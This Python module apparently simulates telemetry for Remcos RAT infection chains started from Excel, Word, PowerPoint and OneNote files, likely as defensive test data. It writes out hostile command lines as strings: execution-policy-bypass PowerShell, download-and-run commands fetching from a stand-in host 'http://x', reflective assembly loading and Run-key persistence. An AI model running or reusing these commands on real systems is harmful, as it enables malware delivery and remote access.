"""Stories that begin in an Office document."""

from __future__ import annotations

from typing import TYPE_CHECKING

from lineage.simulate.benign.boot import SYSTEM32
from lineage.simulate.stories import delivery, remcos
from lineage.simulate.stories.scene import DOTNET, WOW64

if TYPE_CHECKING:
    from lineage.simulate.facts import Process
    from lineage.simulate.machine import Activity
    from lineage.simulate.stories.scene import Scene

EQUATION_EDITOR = "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE"


def xls_hta_dropper(s: Scene) -> Activity:
    """Workbook, HTA, a dropper under a Windows name, PowerShell that hollows another copy."""
    yield from delivery.document(s, "EXCEL.EXE", f"{s.plan.document}.xls")
    hta = delivery.component(s, f"{WOW64}mshta.exe -Embedding", WOW64 + "mshta.exe")
    s.fetch(hta)
    yield 2
    shell = s.run(
        hta,
        WOW64 + "cmd.exe",
        f'"{WOW64}cmd.exe" /c "poWErsheLl.exE -eX BypAsS -nOP -w 1 -C DEViCEcRedeNTIaLdEPlOYmENT"',
        "shell",
        lifetime=9,
    )
    loader = s.powershell(shell, "-eX BypAsS -nOP -w 1 -C DEViCEcRedeNTIaLdEPlOYmENT", "iex $x")
    s.fetch(loader)
    yield 3
    dropper = s.drop(loader, f"{s.roaming}\\dllhost.exe", "dropper file")
    first = s.run(loader, dropper, f'"{dropper}"', "dropper", lifetime=20)
    text = s.save(first, f"{s.temp}\\{s.word()}\\{s.word()}.txt")
    yield 1
    second = s.powershell(
        first,
        f"-windowstyle hidden $a=Get-Content '{text}';$b=$a.SubString(7,3);.$b($a)",
        "VirtualAlloc CallWindowProcA",
        "loader",
        wow64=True,
    )
    s.m.place(f"{s.temp}\\{s.plan.program}", s.plan.payload)
    s.m.write(second, f"{s.temp}\\{s.plan.program}", s.own("payload file"))
    yield 2
    rat = s.run(second, f"{s.temp}\\{s.plan.program}", f'"{s.temp}\\{s.plan.program}"', "payload")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process)

    s.run_value(rat, rat.image, f'"{rat.image}"', again)
    yield from remcos.work(s, rat)


def xls_startup_script(s: Scene) -> Activity:
    """A macro saves a script to the Startup folder and runs it; PowerShell loads a library."""
    excel, _ = yield from delivery.document(s, "EXCEL.EXE", f"{s.plan.document}.xls", macro=True)

    def infect(host: Process) -> Activity:
        s.fetch(host)
        yield 4
        loader = s.powershell(
            host,
            "-ExecutionPolicy UnRestricted [Reflection.Assembly]::Load($b).GetType('N.H').Invoke()",
            "[Reflection.Assembly]::Load($bytes)",
        )
        yield 3
        rat = s.run(loader, DOTNET + "RegAsm.exe", f'"{DOTNET}RegAsm.exe"', "injected")
        remcos.settle(s, rat, values="exepath licence time")
        yield from remcos.work(s, rat, log="{roaming}\\remcos\\logs.dat")

    script = s.startup_file(
        excel,
        f"{s.word()}.vbs",
        SYSTEM32 + "wscript.exe",
        f'"{SYSTEM32}WScript.exe" "{{path}}" ',
        infect,
    )
    yield from infect(delivery.wscript(s, excel, script))


def equation_two_programs(s: Scene) -> Activity:
    """The equation editor downloads a program that downloads the payload."""
    yield from delivery.document(s, "EXCEL.EXE", f"{s.plan.document}.xlsx")
    editor = delivery.component(s, f'"{EQUATION_EDITOR}" -Embedding', EQUATION_EDITOR)
    s.fetch(editor)
    yield 2
    dropper = s.drop(editor, f"C:\\Users\\Public\\{s.word()}.exe", "dropper file")
    first = s.run(editor, dropper, f'"{dropper}"', "dropper", lifetime=30)
    s.fetch(first)
    yield 3
    path = s.drop(first, f"{s.roaming}\\{s.plan.folder}\\remcos.exe", "payload file")
    rat = s.run(first, path, f'"{path}"', "payload")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process, log="{roaming}\\remcos\\logs.dat")

    s.run_value(rat, path, f'"{path}"', again)
    yield from remcos.work(s, rat, log="{roaming}\\remcos\\logs.dat")


def slides_script_moniker(s: Scene) -> Activity:
    """A slide show fetches a scriptlet that has PowerShell download the payload."""
    slides, _ = yield from delivery.document(s, "POWERPNT.EXE", f"{s.plan.document}.ppsx")
    s.fetch(slides)
    yield 2
    loader = s.powershell(
        slides,
        "-NoP -NonI -W Hidden -Exec Bypass (New-Object System.Net.WebClient)"
        ".DownloadFile('http://x/r.exe',\\\"$env:temp\\r.exe\\\");Start-Process r.exe",
        "(New-Object System.Net.WebClient).DownloadFile",
    )
    s.fetch(loader)
    yield 2
    path = s.drop(loader, f"{s.temp}\\{s.word(2)}.exe", "payload file")
    rat = s.run(loader, path, f'"{path}"', "payload")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process)

    s.run_value(rat, path, path, again)
    yield from remcos.work(s, rat, pictures="{roaming}\\Screenshots")


def notebook_attachment(s: Scene) -> Activity:
    """A OneNote notebook with a batch file under a picture."""
    m = s.m
    _, path = yield from delivery.attachment(s, f"{s.plan.document}.one")
    image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE"
    note = m.start(m.shell(), image, f'"{image}" "{path}"', label=s.own("document reader"))
    yield 20
    batch = s.save(note, f"{s.temp}\\OneNote\\16.0\\Exported\\{{A1}}\\NT\\0\\Open.bat", "script")
    shell = s.run(note, SYSTEM32 + "cmd.exe", f'{SYSTEM32}cmd.exe /c ""{batch}" "', "shell")
    loader = s.powershell(
        shell,
        '-w hidden -c "iwr http://x/a.jpg -OutFile $env:APPDATA\\a.exe; start $env:APPDATA\\a.exe"',
        "Invoke-WebRequest -OutFile",
    )
    s.fetch(loader)
    yield 3
    path = s.drop(loader, f"{s.roaming}\\{s.word(2)}.exe", "payload file")
    rat = s.run(loader, path, f'"{path}"', "payload")
    m.exit(shell)
    remcos.settle(s, rat)
    copy = s.drop(rat, f"C:\\ProgramData\\{s.plan.folder}\\{s.plan.program}", "payload file")
    yield 1
    installed = s.run(rat, copy, f'"{copy}"', "payload")
    m.exit(rat)

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process, log="{programdata}\\" + s.plan.folder + "\\logs.dat")

    s.run_value(installed, copy, f'"{copy}"', again)
    yield from again(installed)


def document_remote_template(s: Scene) -> Activity:
    """A document's exploit saves a script in ProgramData; a public image carries the loader."""
    yield from delivery.document(s, "WINWORD.EXE", f"{s.plan.document}.docx")
    editor = delivery.component(s, f'"{EQUATION_EDITOR}" -Embedding', EQUATION_EDITOR)
    s.fetch(editor)
    yield 2
    script = s.save(editor, f"{s.roaming}\\{s.word()}.vbs", "script")
    host = delivery.wscript(s, editor, script)
    s.fetch(host, "paste.ee")
    yield 2
    loader = s.powershell(
        host,
        '-windowstyle hidden -executionpolicy bypass -NoProfile -command "$OWjuxD"',
        "[System.Convert]::FromBase64String($i) | [AppDomain]::CurrentDomain.Load",
    )
    s.fetch(loader, "ia803405.us.archive.org")
    yield 5
    rat = s.run(loader, DOTNET + "RegSvcs.exe", f'"{DOTNET}RegSvcs.exe"', "injected")
    remcos.settle(s, rat, values="exepath licence time UID")
    copy = s.save(loader, f"C:\\ProgramData\\{s.word()}.vbs", "script")

    def again(process: Process) -> Activity:
        yield 2
        second = s.powershell(process, "-windowstyle hidden -command $x", "Load")
        yield 3
        worker = s.run(second, DOTNET + "RegSvcs.exe", f'"{DOTNET}RegSvcs.exe"', "injected")
        yield from remcos.work(s, worker)

    s.run_value(loader, SYSTEM32 + "wscript.exe", f'wscript.exe "{copy}"', again)
    yield from remcos.work(s, rat)
